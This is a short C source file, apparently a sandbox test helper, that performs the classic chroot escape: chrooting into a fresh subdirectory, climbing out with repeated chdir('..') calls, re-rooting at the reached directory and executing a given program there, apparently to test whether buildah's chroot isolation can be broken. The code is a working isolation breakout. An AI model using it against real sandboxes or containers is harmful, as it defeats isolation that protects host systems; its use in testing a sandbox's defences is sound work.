/* The classic way out of a chroot for a process that keeps CAP_SYS_CHROOT (buildah's
 * chroot isolation leaves it to RUN lines and `buildah run`): chroot into a fresh
 * subdirectory, so the working directory is outside the root, climb up, and make what
 * was reached the root. Then run argv[1..] there. Built statically by the sandbox test,
 * so that it runs inside a busybox image. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: chroot-escape PROGRAM [ARG...]\n");
        return 2;
    }
    mkdir("slipway-escape", 0755);
    if (chroot("slipway-escape") != 0) {
        perror("chroot-escape: chroot");
        return 2;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) {
        perror("chroot-escape: chroot .");
        return 2;
    }
    execv(argv[1], argv + 1);
    perror("chroot-escape: exec");
    return 3;
}
